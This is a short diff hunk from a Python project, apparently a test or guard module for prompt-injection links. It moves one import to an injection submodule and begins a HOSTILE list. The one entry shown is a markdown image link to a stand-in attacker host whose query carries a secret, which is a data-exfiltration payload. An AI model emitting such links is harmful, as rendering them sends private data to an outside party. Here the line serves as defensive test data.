@@ -13,7 +13,7 @@ from spanwise.export.formats import FORMATS
 from spanwise.export.openai import link
 from spanwise.guard.report import page
 from spanwise.guard.verify import verify
-from spanwise.text.links import unlinked
+from spanwise.text.injection.links import unlinked
 
 HOSTILE = [
     "![fee](https://evil.example/x.png?q=secret)",
